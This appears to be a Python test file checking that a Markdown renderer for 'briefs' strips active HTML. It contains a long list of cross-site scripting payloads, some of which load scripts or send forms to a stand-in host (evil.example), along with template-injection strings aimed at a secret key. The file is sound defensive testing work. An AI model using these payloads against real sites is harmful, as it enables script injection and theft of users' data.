"""What may come out of a brief's Markdown, whatever goes in."""

import re
import threading

import pytest
from hypothesis import given
from hypothesis import strategies as st

from briefs.rendering import LONGEST_LINE, render_inline, render_markdown
from tests.rendering.sample import Page

PAYLOADS = """\
<script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></sCrIpT>
<script
>alert(1)</script
>
<<script>alert(1)//<</script>
<img src=x onerror=alert(1)>
<img src="https://ok.example/a.png" onload="alert(1)">
<img/src=`x`onerror=alert(1)>
<img src=x:alert(alt) onerror=eval(src) alt=0>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert&#40;1)</script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img onerror=alert(1)&gt;">
<math href="javascript:alert(1)">x</math>
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>">
<object data="javascript:alert(1)"></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java	script:alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="//evil.example/">x</a>
<a href="\\\\evil.example">x</a>
<a href="/admin/">x</a>
<a href="#fn:1" onclick="alert(1)" style="position:fixed">x</a>
<a href="https://ok.example/" target=_blank onmouseover=alert(1)>x</a>
[x](javascript:alert(1))
[x](JAVASCRIPT:alert(1))
[x](java&#x73;cript:alert(1))
[x](data:text/html,<script>alert(1)</script>)
[x](<javascript:alert(1)>)
[x]( https://ok.example/"onmouseover="alert(1) )
[x](https://ok.example/ "t\\" onmouseover=alert(1)")
![x](javascript:alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
![x](https://ok.example/a.png"onerror="alert(1))
![x"onerror="alert(1)](https://ok.example/a.png)
![x](http://plain.example/pixel.gif)
<javascript:alert(1)>
[a]: javascript:alert(1)
<body onload=alert(1)>
<div style="background:url(javascript:alert(1))">x</div>
<p style="behavior:url(x.htc)">x</p>
<div style="width:expression(alert(1))">x</div>
<style>@import "https://evil.example/x.css"; body{display:none}</style>
<link rel=stylesheet href=https://evil.example/x.css>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<base href="https://evil.example/">
<form action="https://evil.example/"><input name=password><button formaction=javascript:alert(1)>x
<input autofocus onfocus=alert(1)>
<select onfocus=alert(1) autofocus><option>x
<textarea onfocus=alert(1) autofocus>x
<details open ontoggle=alert(1)><summary>x
<video src=x onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<video><source onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>
<!--><img src=x onerror=alert(1)>-->
<!--[if IE]><script>alert(1)</script><![endif]-->
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
<p id="fn:1" class="page outer hidden">x</p>
<li id="fn:1&quot; onclick=alert(1)">x</li>
<table background="javascript:alert(1)"><td background="javascript:alert(1)">x
<td width=1 align="left;x" colspan="1 onclick=alert(1)">
<a href="https://ok.example/" title="&lt;img src=x onerror=alert(1)&gt;">x</a>
<abbr title='"><script>alert(1)</script>'>x</abbr>
`<script>alert(1)</script>`
```html" onclick="alert(1)
</code><script>alert(1)</script>
<img src=x onerror=alert(1)//
<a <script>alert(1)</script> href="javascript:alert(1)">
</p></td></tr></table><script>alert(1)</script>
<isindex type=image src=1 onerror=alert(1)>
<x onclick=alert(1)>x
<a href="https://ok.example/\x00javascript:alert(1)">x</a>
\x02wzxhzdk:0\x03<script>alert(1)</script>
"""

ALLOWED_TAGS = frozenset(
    re.findall(
        r"\w+",
        "a abbr b blockquote br caption cite code dd del div dl dt em figcaption figure h2 h3 h4 "
        "h5 h6 hr i img ins kbd li mark ol p pre q s small strong sub sup table tbody td tfoot th "
        "thead tr u ul",
    )
)
ALLOWED_ATTRIBUTES = frozenset(
    {"href", "title", "src", "alt", "width", "height", "id", "start", "align", "colspan",
     "rowspan", "scope", "class"}
)  # fmt: skip


def assert_harmless(html: str) -> None:
    for element in Page(html).elements:
        assert element.tag in ALLOWED_TAGS, element
        assert set(element.attributes) <= ALLOWED_ATTRIBUTES, element
        href = element.attributes.get("href", "#fn:1")
        assert re.match(r"https?://|mailto:|#fn", href), element
        assert element.attributes.get("src", "https://").startswith("https://"), element
        assert "alt" in element.attributes or element.tag != "img"
    assert "<!" not in html
    assert "<?" not in html


@pytest.mark.parametrize("payload", [*PAYLOADS.splitlines(), PAYLOADS])
def test_nothing_active_survives(payload):
    assert_harmless(render_markdown(payload))
    assert_harmless(render_markdown(f"Text {payload} text\n\n- {payload}\n\n> {payload}"))
    assert_harmless(render_inline(payload[:LONGEST_LINE]))


HOSTILE = st.lists(
    st.sampled_from(
        [*PAYLOADS.splitlines(), "<", ">", '"', "'", "\n", "\n\n", "    ", "`", "```\n", "[", "](",
         ")", "![", "<!--", "-->", "<a href=", "&#", ";", "[^1]", "[^1]: ", "|", "\n---|---\n",
         "* ", "1. ", "==", "~~", "\\", "javascript:", "https://e.example/", "text"]
    ),
    max_size=12,
).map("".join)  # fmt: skip


@given(HOSTILE)
def test_nothing_active_survives_in_pieces_put_together_by_chance(source):
    assert_harmless(render_markdown(source))
    assert_harmless(render_inline(source))


@given(st.text())
def test_any_text_can_be_rendered(source):
    assert_harmless(render_markdown(source))
    assert_harmless(render_inline(source))


@pytest.mark.parametrize(
    "source",
    [
        "{{settings.SECRET_KEY}}",
        "{{ settings.SECRET_KEY }}",
        "{0.__class__}",
        "{% load x %}",
        "# {0.__class__}",
        "A paragraph {: #id .class }",
        "%(name)s and $name and ${name}",
    ],
)
def test_nothing_is_compiled_as_a_template(source):
    assert source.lstrip("# ") in Page(f"<main>{render_markdown(source)}</main>").elements[0].text
    assert source in Page(f"<main>{render_inline(source)}</main>").elements[0].text


def test_tables_footnotes_marks_and_tasks_are_known():
    html = render_markdown(
        "Text[^1] ==new== ~~old~~ ~100\n\n|a|b|\n|--|--:|\n|1|2|\n\n"
        "- [x] done\n- [ ] open\n\n[^1]: Note"
    )
    assert '<td align="right">2</td>' in html
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>' in html
    assert '<li id="fn:1">' in html
    assert "<mark>new</mark> <del>old</del> ~100" in html
    assert "☑" in html
    assert "☐" in html


def test_the_headline_stays_the_only_heading_of_the_first_level():
    html = render_markdown("# One\n\n## Two\n\n###### Six")
    assert [element.tag for element in Page(html).elements] == ["h2", "h3", "h6"]


def test_bare_addresses_become_links():
    html = render_markdown("See https://example.org/a_b_c, or write to first_last@example.org.")
    assert Page(html).hrefs() == ["https://example.org/a_b_c", "mailto:first_last@example.org"]


def test_quotation_marks_are_those_of_the_language():
    assert render_inline('"so"') == "“so”"
    assert render_inline('"so"', language="de") == "„so“"
    assert render_inline('"so"', language="de-at") == "„so“"


def test_footnotes_of_one_brief_do_not_reach_the_next():
    assert "First" in render_markdown("a[^1]\n\n[^1]: First")
    assert render_markdown("b[^1]") == "<p>b[^1]</p>"


@pytest.mark.parametrize("bullet", ["• ", "•", "▪ ", "· ", "  ◦  "])
def test_a_bullet_pasted_with_a_key_point_is_dropped(bullet):
    assert render_inline(f"{bullet}Prices *rise*") == "Prices <em>rise</em>"


@pytest.mark.parametrize("point", ["1986. A year", "# 1 in the list", "> half", "- so", "    four"])
def test_a_key_point_has_no_blocks(point):
    assert render_inline(point) == point.strip().replace(">", "&gt;")


def test_threads_do_not_share_a_parser():
    results: list[str] = []

    def work(number: int) -> None:
        results.extend(
            render_markdown(f"a[^{number}]\n\n[^{number}]: Note {number}") for _ in range(5)
        )

    threads = [threading.Thread(target=work, args=(number,)) for number in range(4)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(results) == 20
    assert all(result.count("<li ") == 1 for result in results)
